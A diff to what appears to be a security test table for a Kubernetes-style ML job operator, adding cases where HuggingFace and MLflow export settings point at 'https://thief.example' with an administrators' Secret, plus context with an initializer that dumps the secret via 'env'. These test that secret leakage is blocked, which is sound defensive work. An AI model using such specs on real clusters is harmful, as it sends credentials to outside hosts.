@@ -99,6 +99,40 @@ ATTACKS: dict[str, Attack] = {
     "a Secret as variables of the head": Attack(
         small_spec({"head": {"template": {"envFrom": [{"secretRef": {"name": ADMINS}}]}}}), NO_SECRET
     ),
+    "a Secret that an export sends to a server": Attack(
+        small_spec(
+            {
+                "export": {
+                    "to": {
+                        "type": "HuggingFace",
+                        "huggingFace": {
+                            "repository": "a/b",
+                            "endpoint": "https://thief.example",
+                            "secretRef": {"name": ADMINS},
+                        },
+                    }
+                }
+            }
+        ),
+        NO_SECRET,
+    ),
+    "a Secret that an export has as variables": Attack(
+        small_spec(
+            {
+                "export": {
+                    "to": {
+                        "type": "MLflow",
+                        "mlflow": {
+                            "trackingUrl": "https://thief.example",
+                            "experiment": "a",
+                            "secretRef": {"name": ADMINS},
+                        },
+                    }
+                }
+            }
+        ),
+        NO_SECRET,
+    ),
     "a Secret in an initializer": Attack(
         small_spec({"initializers": [{"name": "steal", "command": ["env"], "env": [from_secret(ADMINS)]}]}), NO_SECRET
     ),
